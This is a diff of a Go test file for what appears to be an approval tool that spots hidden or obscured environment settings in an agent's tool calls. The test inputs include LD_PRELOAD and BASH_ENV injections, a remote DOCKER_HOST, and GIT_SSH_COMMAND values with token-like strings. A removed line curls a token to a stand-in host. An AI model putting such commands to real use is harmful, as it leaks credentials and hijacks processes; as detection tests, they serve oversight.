@@ -8,6 +8,7 @@ import (
 	"testing"
 	"testing/synctest"
 
+	"approver.example/display"
 	"approver.example/tokens"
 )
 
@@ -114,14 +115,14 @@ func TestEnvironmentLines(t *testing.T) {
 		}
 	}
 	for _, hidden := range []string{"DOCKER_HOST=tcp://confirm-‹10 characters hidden›:2375", "X=https://a.example/‹10 characters hidden, 3fa9c1›"} {
-		if !hidesEnvironment([]string{hidden}) {
+		if !display.HidesEnvironment([]string{hidden}) {
 			t.Errorf("%q counts as shown", hidden)
 		}
 	}
-	if hidesEnvironment([]string{"HTTPS_PROXY=http://u:‹8 characters hidden, 3fa9c1›@proxy.example:8080"}) {
+	if display.HidesEnvironment([]string{"HTTPS_PROXY=http://u:‹8 characters hidden, 3fa9c1›@proxy.example:8080"}) {
 		t.Error("a proxy's password hides where a command acts")
 	}
-	for _, lines := range [][]string{{"LD_PRELOAD=/x/ghp_‹36 characters hidden, 3fa9c1›"}, {"BASH_ENV=" + showValue(strings.Repeat("x", 5000))}} {
+	for _, lines := range [][]string{{"LD_PRELOAD=/x/ghp_‹36 characters hidden, 3fa9c1›"}, {"BASH_ENV=" + display.NewSetting("BASH_ENV", strings.Repeat("x", 5000), "").Shown}} {
 		if r := (Request{Call: ToolCall{Environment: lines}}); !r.obscured() {
 			t.Errorf("a tap is enough for %.80q", lines)
 		}
@@ -142,16 +143,11 @@ func TestTooMuchEnvironmentTakesTheTypedCode(t *testing.T) {
 	call.Environment = x.Environments.shown(t.Context(), call)
 	r := Request{Call: call, Verdict: Verdict{Severity: High}, State: Pending}
 	card := x.Cards.card(r, tokens.Code{})
-	if len(card.Environment) > 2*maxEnvironment || !strings.Contains(card.Environment, "LD_PRELOAD=/x.so") || !strings.Contains(card.Environment, "CUT: ") {
+	if len(card.Environment) > 8<<10 || !strings.Contains(card.Environment, "LD_PRELOAD=/x.so") || !strings.Contains(card.Environment, "CUT: ") {
 		t.Errorf("%d bytes: %.200s", len(card.Environment), card.Environment)
 	}
 	if card.OneTap || !r.obscured() || !strings.Contains(card.Notice, "HIDDEN") {
 		t.Errorf("a tap is enough: %q", card.Notice)
-	}
-	for n, want := range map[int]bool{1: false, 90: false, 200: true} { // an honest session has some dozens
-		if got := hidesEnvironment(bounded(slices.Repeat([]string{"TF_VAR_some_name=value (was unset)"}, n))); got != want {
-			t.Errorf("%d lines: hidden %v", n, got)
-		}
 	}
 }
 
@@ -171,45 +167,13 @@ func TestComparedVariables(t *testing.T) {
 	if all := strings.Join(lines, " "); strings.Contains(all, "prodvalue") || strings.Contains(all, "newvalue") {
 		t.Errorf("a value is shown: %s", all)
 	}
-	for value, want := range map[string]bool{
-		"ssh -o X=" + ghp + " https://h/":   true,
-		"https://u:hunter22@h/":             false,
-		"https://u:hunter22@h/ -i " + ghp:   true,
-		"https://h/ u:" + ghp + "@x":        true,
-		"ssh://h/" + ghp + "/x":             true,
-		"https://a:hunter22@h,b://" + ghp:   true,
-		"sh -c 'curl https://h/?k=" + ghp:   true,
-		"https://u:hunter22@h ssh " + ghp:   true,
-		"/x/y:z://" + ghp + " /usr/bin/ssh": true,
-	} {
-		if got := hidesEnvironment([]string{"GIT_SSH_COMMAND=" + showValue(value)}); got != want {
-			t.Errorf("%s: hidden %v", showValue(value), got)
-		}
-	}
-}
-
-// The story: the hook sends *** for the password in an address, and the card showed the
-// length and the fingerprint of ***, the same for every password. It shows *** now.
-func TestAPasswordThatWasNotSentHasNoFingerprint(t *testing.T) {
-	for _, value := range []string{
-		"postgres://u:***@prod/db", "http://a:***@proxy.example:8080", "redis://:***@cache:6379/1", "amqp://u:***@h,amqp://v:***@i", "https://u:***@h/simple",
-	} {
-		for _, name := range []string{"DATABASE_URL", "HTTPS_PROXY", "PIP_INDEX_URL", "X_SECRET_URL"} {
-			if shown := shownSetting(name, value); shown != value || hidesEnvironment([]string{name + "=" + shown}) {
-				t.Errorf("%s=%s is shown as %s", name, value, shown)
-			}
-		}
-	}
-	if shown := shownSetting("DATABASE_URL", "postgres://u:****a@h"); strings.Contains(shown, "****a") {
-		t.Errorf("a password of stars and more is shown: %s", shown)
-	}
 }
 
 // The environments of sessions in memory are bounded; the store has the others.
 func TestBegunSessionsInMemoryAreBounded(t *testing.T) {
 	var m firstEnv
 	for i := range 3 * maxBegan {
-		m.note(fmt.Sprint("s", i), map[string]setting{})
+		m.note(fmt.Sprint("s", i), map[string]display.Setting{})
 		if len(m.of) > maxBegan {
 			t.Fatalf("%d sessions are in memory", len(m.of))
 		}
